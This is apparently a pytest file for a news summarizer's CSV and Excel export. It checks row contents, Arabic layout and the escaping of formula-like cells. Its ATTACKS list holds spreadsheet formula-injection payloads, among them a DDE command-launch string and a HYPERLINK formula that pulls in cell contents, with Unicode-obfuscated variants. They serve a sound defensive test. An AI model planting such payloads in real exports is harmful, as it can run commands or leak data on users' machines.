"""Tables: a row for each result, Arabic intact, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import sys
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from summarize.config import Settings
from summarize.errors import MissingExtraError, UsageError
from summarize.formats.tables import HEADER, harmless, write_csv, write_xlsx
from summarize.pipeline import Digester
from summarize.reading import clean
from summarize.records import Abstract, Digest, Extract, Failure, Flag, Line, SummaryTranslation, Translation

LEAD = "أعلنت البلدية، الأحد، إعادة فتح الجسر القديم أمام المشاة بعد أعمال صيانة استمرت ثلاثة أشهر."
NEXT = "وقال رئيس البلدية إن الصيانة كلفت مليوني دينار، وإن الجسر صار يحتمل ضعف ما كان يحتمله."
FAILURE = Failure("gone", "https://news.example/1", "read", "ReadingError", "no such page (404)")


@pytest.fixture(scope="module")
def digest() -> Digest:
    """A digest made by the library, with what models would have added filled in."""
    article = clean(f"إعادة فتح الجسر القديم\n\n{LEAD}\n\n{NEXT}", id="bridge", source="bridge.txt")
    bare = Digester(Settings(summarizer="none", translator="none")).digest(article)
    lines = tuple(Line(sentence.index, "The bridge is open.", -0.3) for sentence in bare.sentences)
    return replace(
        bare,
        article=replace(article, title="إعادة فتح الجسر القديم"),
        abstract=Abstract("أعيد فتح الجسر.", "embedded"),
        translation=Translation("eng_Latn", "embedded", lines, "Old bridge reopened"),
        summary_translation=SummaryTranslation("The municipality reopened the bridge.", "The bridge reopened."),
        flags=(Flag("number", "translation:1", "3 is missing"), Flag("furniture", "article", "1 line", "info")),
        grade="check",
    )


def read_csv(results: list[Digest | Failure], stories: list[int] | None = None) -> list[dict[str, str]]:
    out = io.BytesIO()
    write_csv(results, out, stories or [])
    return list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))


def read_xlsx(results: list[Digest | Failure], stories: list[int] | None = None) -> list[dict[str, str]]:
    out = io.BytesIO()
    write_xlsx(results, out, stories or [])
    header, *rows = load_workbook(out).active.iter_rows(values_only=True)
    return [{name: value or "" for name, value in zip(header, row, strict=True)} for row in rows]


READERS = pytest.mark.parametrize("read", [read_csv, read_xlsx], ids=["csv", "xlsx"])


@READERS
def test_a_row_says_all_that_a_desk_needs_of_a_digest(read, digest):
    (row,) = read([digest])
    assert list(row) == list(HEADER)
    assert row == {
        "id": "bridge",
        "source": "bridge.txt",
        "title": "إعادة فتح الجسر القديم",
        "grade": "check",
        "extract": digest.extract.text,
        "abstract": "أعيد فتح الجسر.",
        "translated title": "Old bridge reopened",
        "translated extract": "The municipality reopened the bridge.",
        "translated abstract": "The bridge reopened.",
        "flags": "translation, sentence 2: 3 is missing (number)",
        "error": "",
        "story": "",
    }


@READERS
def test_a_failure_stands_in_its_place_with_its_reason(read, digest):
    rows = read([digest, FAILURE, digest], [1, 2, 1])
    assert [(row["id"], row["error"], row["story"]) for row in rows] == [
        ("bridge", "", "1"), ("gone", "no such page (404)", "2"), ("bridge", "", "1"),
    ]  # fmt: skip
    assert rows[1]["source"] == "https://news.example/1"
    assert rows[1]["title"] == rows[1]["grade"] == rows[1]["flags"] == ""


@READERS
def test_a_digest_without_models_leaves_their_columns_empty(read, digest):
    bare = replace(digest, abstract=None, translation=None, summary_translation=None, flags=())
    (row,) = read([bare])
    assert row["extract"] == digest.extract.text
    assert not any(row[name] for name in HEADER if name.startswith("translated") or name in {"abstract", "flags"})


@READERS
def test_no_result_gives_a_header_alone(read):
    assert read([]) == []


ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\u202e=1+1",
    "\u2067=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00ad=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    '"=1+1"\n=1+1',
    '=HYPERLINK("http://news.example?"&A1,"اضغط")',
]


@READERS
@pytest.mark.parametrize("attack", ATTACKS, ids=[ascii(attack) for attack in ATTACKS])
def test_no_cell_begins_like_a_formula(read, attack, digest):
    hostile = replace(
        digest,
        article=replace(digest.article, id=attack, title=attack, source=attack),
        extract=Extract("ranker", (0,), attack),
        abstract=Abstract(attack, "embedded"),
        flags=(Flag("number", "translation:1", attack),),
    )
    rows = read([hostile, Failure(attack, attack, "read", "ReadingError", attack)])
    for cell in (cell for row in rows for cell in row.values()):
        assert not cell.strip().startswith(tuple("=+-@＝＋－＠﹦"))
        assert not set(cell) & set("\t\r\n\x00\u202e\u2067")
    assert rows[0]["title"].lstrip("'\"")


@pytest.mark.parametrize("text", ["خبر; =1+1", "خبر;=1+1", "خبر;\u200f@SUM(A1)", ";;-1"])
def test_a_line_parted_at_semicolons_has_no_formula_either(text, digest):
    (row,) = read_csv([replace(digest, article=replace(digest.article, title=text))])
    assert not any(part.strip().startswith(tuple("=+-@")) for part in row["title"].split(";"))


@pytest.mark.parametrize("text", ["اتفاق - بعد شهر", "3 + 4 = 7", "a@b.example", "«-5» درجات", "نص عادي; ثم نص"])
def test_a_text_that_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


def test_every_cell_of_a_workbook_is_text(digest):
    out = io.BytesIO()
    write_xlsx([replace(digest, article=replace(digest.article, id="=1", title="1e5"))], out)
    assert {cell.data_type for cell in load_workbook(out).active[2] if cell.value} == {"s"}


def test_csv_begins_with_the_mark_that_excel_needs_and_quotes_every_cell(digest):
    out = io.BytesIO()
    write_csv([digest], out)
    assert out.getvalue().startswith(b'\xef\xbb\xbf"id",')
    assert out.getvalue().endswith(b"\r\n")


def test_arabic_columns_are_set_right_to_left_and_wide_enough_to_read(digest):
    out = io.BytesIO()
    write_xlsx([digest], out)
    sheet = load_workbook(out).active
    columns = dict(zip(HEADER, sheet[2], strict=True))
    right = {name for name, cell in columns.items() if cell.alignment.readingOrder == 2}
    assert right == {"title", "extract", "abstract"}
    assert all(cell.alignment.wrap_text for cell in columns.values())
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["E"].width > 50


@pytest.mark.parametrize("letter", ["ا", "😀"])
def test_a_text_too_long_for_a_cell_is_cut_and_says_so(letter, digest):
    long = replace(digest, extract=Extract("ranker", (0,), letter * 40_000))
    (row,) = read_xlsx([long])
    assert len(row["extract"].encode("utf-16-le")) // 2 <= 32_767
    assert row["extract"].endswith("whole in CSV and JSONL]")
    (row,) = read_csv([long])
    assert row["extract"] == letter * 40_000


def test_stories_for_some_results_only_are_refused(digest):
    with pytest.raises(UsageError, match="1 stories given for 2 results"):
        write_csv([digest, FAILURE], io.BytesIO(), [1])


def test_a_sheet_that_would_overflow_is_refused(digest, monkeypatch):
    monkeypatch.setattr("summarize.formats.tables._ROWS", 2)
    with pytest.raises(UsageError, match="a sheet has 2 rows"):
        write_xlsx([digest] * 3, io.BytesIO())


def test_without_xlsxwriter_the_line_that_installs_it_is_told(digest, monkeypatch):
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(MissingExtraError, match=r"pip install 'khulasa\[ui\]'"):
        write_xlsx([digest], io.BytesIO())
